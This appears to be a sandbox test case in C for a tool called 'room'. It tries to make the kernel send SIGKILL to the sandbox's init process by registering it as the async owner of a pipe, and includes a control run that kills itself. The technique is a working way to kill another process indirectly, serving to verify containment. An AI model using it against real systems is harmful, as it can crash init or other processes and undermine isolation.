/*
 * attack: lets the kernel kill the room's init, as the owner of a pipe that becomes ready
 * run: --wall 5 -- 1
 * expected: exited
 * prints: ^still here$
 * control: room --wall 5 -- 0
 * shows: ^armed$
 * hides: ^still here$
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int count, char **arguments)
{
    pid_t victim = atoi(arguments[1]);
    int pair[2];

    if (pipe(pair) < 0)
        return 1;
    fcntl(pair[0], F_SETOWN, victim ? victim : getpid());
    fcntl(pair[0], F_SETSIG, SIGKILL);
    fcntl(pair[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    printf("armed\n");
    fflush(stdout);
    for (int i = 0; i < 100; i++)
        write(pair[1], "x", 1);
    usleep(200000);
    printf("still here\n");
    return 0;
}
